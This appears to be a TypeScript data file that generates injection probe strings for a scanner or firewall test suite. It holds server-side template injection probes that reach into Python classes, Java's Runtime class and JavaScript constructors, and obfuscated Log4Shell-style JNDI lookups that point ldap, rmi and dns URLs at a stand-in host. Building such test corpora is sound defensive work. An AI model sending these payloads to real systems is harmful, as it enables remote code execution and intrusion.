import { product, type Spellings } from './spelling.ts';

export const TEMPLATE_SPELLINGS: readonly Spellings[] = [
  {
    name: 'templates',
    types: ['template_injection', 'cross_site_scripting'],
    part: 'q',
    texts: [
      ...[
        ['{{', '}}'],
        ['§{', '}'],
        ['#{', '}'],
        ['*{', '}'],
        ['@{', '}'],
        ['<%=', '%>'],
        ['{{=', '}}'],
        ['§{{', '}}'],
        ['[[§{', '}]]'],
        ['%{', '}'],
        ['{%=', '%}'],
        ['{{{', '}}}'],
      ].flatMap(([open = '', close = '']) =>
        [
          '7*7',
          ' 7*7 ',
          "7*'7'",
          '(7*7)',
          '191-7',
          "''.__class__",
          'self.__init__',
          'T(java.lang.Runtime)',
          '"a".getClass()',
          "x.constructor.constructor('y')()",
        ].flatMap((inside) => ['', 'a', '"', "'}"].map((head) => `${head}${open}${inside}${close}`)),
      ),
      ...product(
        ['§{', '$%7b'],
        [
          'jndi:',
          '§{lower:j}ndi:',
          'j§{::-n}di:',
          '§{::-j}§{::-n}§{::-d}§{::-i}:',
          '§{env:x:-j}ndi§{env:x:-:}',
          'JNDI:',
          'jn§{upper:d}i:',
        ],
        ['ldap://x.example/a}', '§{::-l}dap://x.example}', 'rmi://x.example/a}', 'dns:x.example}'],
      ),
    ],
  },
];
